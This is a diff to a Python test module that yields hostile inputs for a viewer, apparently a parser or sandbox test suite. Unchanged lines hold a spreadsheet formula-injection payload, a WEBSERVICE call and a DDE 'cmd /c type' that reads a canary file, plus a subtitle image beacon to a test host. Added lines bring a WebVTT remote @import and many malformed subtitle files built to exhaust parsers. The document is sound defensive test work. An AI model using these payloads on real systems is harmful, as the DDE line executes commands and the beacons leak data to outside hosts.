@@ -8,7 +8,7 @@ from tests.corpus.hostile.films import playlist
 
 def cases(canary: Canary) -> Iterator[Hostile]:
     """The first page is shown, as it is written."""
-    for name, data in (*_lists(canary), *_long(), *_odd()):
+    for name, data in (*_lists(canary), *_long(), *_odd(), *_subtitles()):
         yield Hostile("texts", name, data, SHOWN)
     yield Hostile("texts", "zeros that begin as words", b"words" + bytes(100_000), KEPT)
 
@@ -24,6 +24,20 @@ def _lists(canary: Canary) -> Iterator[tuple[str, bytes]]:
     formula = f"=WEBSERVICE(\"{there['http']}\"),=cmd|'/c type {canary.path('canary.txt')}'!A0\n"
     yield "a table of formulas", formula.encode()
     yield "subtitles with a picture", f'1\n00:00:00,000 --> 00:00:09,000\n<img src="{there["http"]}">\n'.encode()
+    styled = f"WEBVTT\n\nSTYLE\n@import url({there['http']})\n\n00:00.000 --> 00:01.000\n<img src={there['http']}>a"
+    yield "WebVTT with styles from elsewhere", styled.encode()
+
+
+def _subtitles() -> Iterator[tuple[str, bytes]]:
+    begin = b"1\n00:00:00,000 --> 00:00:09,000\n"
+    yield "subtitles of a million cues", (begin + b"a\n\n") * 250_000
+    yield "subtitles of a cue that does not end", begin + b"a\n" * 2_000_000
+    yield "subtitles of tags that do not end", begin + b"<" * 100_000 + b"<b " * 100_000
+    yield "subtitles of brackets", begin + b"{\\an" * 100_000
+    yield "subtitles that end before they begin", b"1\n999:99:99,999 --> 00:00:00,000\n" + b"a" * 9000
+    yield "subtitles in no encoding", begin + b"a " * 2500 + bytes(range(128, 256)) * 1000
+    yield "WebVTT of arrows", b"WEBVTT\n\n" + b"00:00.000 --> " * 100_000
+    yield "WebVTT of a note that does not end", b"WEBVTT\n\nNOTE\n" + b"-->\n" * 1_000_000
 
 
 def _long() -> Iterator[tuple[str, bytes]]:
